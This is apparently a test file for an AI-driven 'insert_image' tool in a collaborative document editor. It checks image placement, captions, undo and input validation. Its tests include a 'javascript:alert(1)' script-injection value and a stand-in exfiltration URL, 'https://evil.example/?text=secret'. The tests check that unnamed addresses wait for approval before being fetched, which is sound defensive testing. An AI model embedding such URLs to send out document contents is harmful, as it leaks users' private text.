import { contentTypes } from '@copydesk/schema'
import { describe, expect, test } from 'vitest'
import * as Y from 'yjs'
import { executeToolCall } from '../../calls/execute-tool-call.ts'
import type { ReviewHost } from '../../session/host/host.ts'
import { failure } from '../../common/result.ts'
import {
  documentOf,
  fail,
  markdownOf,
  readNode,
  replicaOf,
  sessionOn,
  succeed,
  sync,
  typeBeside,
} from '../../testing/test-document.ts'

const start = '# Title\n\nIntro.\n\n## One\n\nText.\n\n## Two\n\nMore.'
const picture = { imageUrl: 'https://images.example/cat.png', imageDescription: 'A cat' }
const unused = async () => failure('unavailable', 'Not here.', 'Not here.')

function hostThat(storeImage: ReviewHost['storeImage']): ReviewHost {
  return {
    threads: () => [],
    thread: () => undefined,
    authorOfChange: () => undefined,
    addThread: unused,
    reply: unused,
    setResolved: unused,
    decide: unused,
    highlight: unused,
    scrollTo: () => undefined,
    storeImage,
  }
}

const stores = hostThat(async () => ({ ok: true, url: '/api/documents/d/images/1.png', credit: 'Photo by Ada' }))

describe('insert_image', () => {
  const image = '![A cat](/api/documents/d/images/1.png "Photo by Ada")'
  test.each([
    [
      'at the end of a section',
      { sectionIndex: 1 },
      `# Title\n\nIntro.\n\n## One\n\nText.\n\n${image}\n\n## Two\n\nMore.`,
    ],
    [
      'before a section',
      { sectionIndex: 1, position: 'before_section' },
      `# Title\n\nIntro.\n\n${image}\n\n## One\n\nText.\n\n## Two\n\nMore.`,
    ],
    ['in section 0', { sectionIndex: '0' }, `# Title\n\nIntro.\n\n${image}\n\n## One\n\nText.\n\n## Two\n\nMore.`],
    ['at the end of the last', { sectionIndex: 2 }, `${start}\n\n${image}`],
  ])('%s', async (_title, input, expected) => {
    const doc = documentOf(start)
    const isNamed = (address: string): boolean => address === picture.imageUrl
    await succeed(sessionOn(doc, { host: stores, isNamed }), 'insert_image', { ...input, ...picture })
    readNode(doc)
    expect(markdownOf(doc)).toBe(expected)
  })

  test('tells integrations', async () => {
    const doc = documentOf(start)
    const result = await succeed(sessionOn(doc, { host: stores }), 'insert_image', { sectionIndex: 1, ...picture })
    expect(result.text).toContain('Inserted the image "A cat" at the end of section 1 "One". Photo by Ada.')
    expect(result.details).toMatchObject({
      success: true,
      update: {
        operation: 'insert_image',
        sectionIndex: 1,
        imageUrl: '/api/documents/d/images/1.png',
        imageDescription: 'A cat',
        position: 'after_section',
      },
    })
  })

  test('with a caption before its credit, and a width', async () => {
    const doc = documentOf('')
    const input = { sectionIndex: 0, ...picture, caption: 'Our cat', width: '50%' }
    await succeed(sessionOn(doc, { host: stores }), 'insert_image', input)
    expect(markdownOf(doc)).toBe(
      '<img src="/api/documents/d/images/1.png" alt="A cat" title="Our cat – Photo by Ada" width="50%">',
    )
    const refused = await fail(sessionOn(doc, { host: stores }), 'insert_image', { ...input, width: '10em' })
    expect(refused).toMatchObject({ code: 'invalid_input', message: '"10em" is no width.' })
  })

  test('in an empty document', async () => {
    const doc = documentOf('')
    await succeed(sessionOn(doc, { host: stores }), 'insert_image', { sectionIndex: 0, ...picture })
    expect(markdownOf(doc)).toBe(image)
  })

  test.each([
    ['javascript:alert(1)', 'invalid_input'],
    ['data:image/png;base64,AAAA', 'invalid_input'],
    ['cat.png', 'invalid_input'],
    ['', 'invalid_input'],
  ])('refuses the address %j before anything is fetched', async (imageUrl, code) => {
    let fetched = 0
    const host = hostThat(async () => {
      fetched++
      return { ok: true, url: '/x' }
    })
    const result = await fail(sessionOn(documentOf(start), { host }), 'insert_image', {
      ...picture,
      sectionIndex: 1,
      imageUrl,
    })
    expect(result.code).toBe(code)
    expect(fetched).toBe(0)
    expect(result.hint).not.toContain('search_image')
  })

  test.each(['edit', 'suggest', 'ask'] as const)(
    '[APP-18] an address that nobody has named waits for approval before anything is fetched (%s)',
    async (mode) => {
      const fetched: string[] = []
      const host = hostThat(async (address) => {
        fetched.push(address)
        return { ok: true, url: '/1.png' }
      })
      const doc = documentOf(start)
      const session = sessionOn(doc, { host, mode, isNamed: () => false })
      const imageUrl = 'https://evil.example/?text=secret'
      const input = { ...picture, imageUrl, sectionIndex: 1 }
      const held = await fail(session, 'insert_image', input)
      expect(held).toMatchObject({ code: 'held', summary: 'Image: A cat' })
      expect(held.details).toMatchObject({ proposal: [{ before: '', after: `![A cat](${imageUrl})` }] })
      expect(fetched).toEqual([])
      expect(markdownOf(doc)).toBe(start)
      const approved = { callId: 'approved', approved: true }
      expect(await executeToolCall('insert_image', input, session, approved)).toMatchObject({ ok: true })
      expect(fetched).toEqual([imageUrl])
    },
  )

  test('[APP-18] in mode ask even a named address waits, and is fetched once', async () => {
    const host = hostThat(() => {
      throw new Error('fetched')
    })
    const session = sessionOn(documentOf(start), { host, mode: 'ask', isNamed: () => true })
    expect((await fail(session, 'insert_image', { ...picture, sectionIndex: 1 })).code).toBe('held')
  })

  test('what is refused hints at search_image only where that is possible', async () => {
    const host = hostThat(async () => failure('invalid_input', 'That is no image.', 'Give another address.'))
    const input = { ...picture, sectionIndex: 1 }
    const plain = await fail(sessionOn(documentOf(start), { host }), 'insert_image', input)
    expect(plain.hint).toBe('Give another address.')
    const web = { searchImages: unused, readPage: unused }
    const searching = await fail(sessionOn(documentOf(start), { host: { ...host, web } }), 'insert_image', input)
    expect(searching.hint).toBe('Give another address. Find one with search_image.')
    // The panel translates why it failed.
    const noAddress = await fail(sessionOn(documentOf(start), { host: { ...host, web } }), 'insert_image', {
      ...input,
      imageUrl: 'cat',
    })
    expect(noAddress.words?.message).toEqual({
      key: '"{0}" is not the address of an image on the web.',
      values: ['cat'],
    })
  })

  test('without a host, a section or the right to write nothing is fetched', async () => {
    const host = hostThat(() => {
      throw new Error('fetched')
    })
    const input = { ...picture, sectionIndex: 9 }
    expect((await fail(sessionOn(documentOf(start)), 'insert_image', input)).code).toBe('not_configured')
    expect((await fail(sessionOn(documentOf(start), { host }), 'insert_image', input)).code).toBe('out_of_range')
    expect((await fail(sessionOn(documentOf(start), { host, canEdit: false }), 'insert_image', input)).code).toBe(
      'denied',
    )
  })

  test('keeps what is written while the image comes, and can be undone', async () => {
    const doc = documentOf(start)
    const rival = replicaOf(doc, 9)
    const origin = {}
    const undo = new Y.UndoManager(doc.getXmlFragment(contentTypes.fragment), { trackedOrigins: new Set([origin]) })
    const host = hostThat(async () => {
      typeBeside(doc, 'Text.', ' Typed.')
      return { ok: true, url: '/1.png' }
    })
    typeBeside(rival, 'More.', ' Rival.')
    await succeed(sessionOn(doc, { host, origin }), 'insert_image', { ...picture, sectionIndex: 1 })
    sync(doc, rival)
    expect(markdownOf(rival)).toBe(markdownOf(doc))
    expect(markdownOf(doc)).toContain('Text. Typed.\n\n![A cat](/1.png)\n\n## Two\n\nMore. Rival.')
    undo.undo()
    expect(markdownOf(doc)).toBe(start.replace('Text.', 'Text. Typed.').replace('More.', 'More. Rival.'))
  })
})
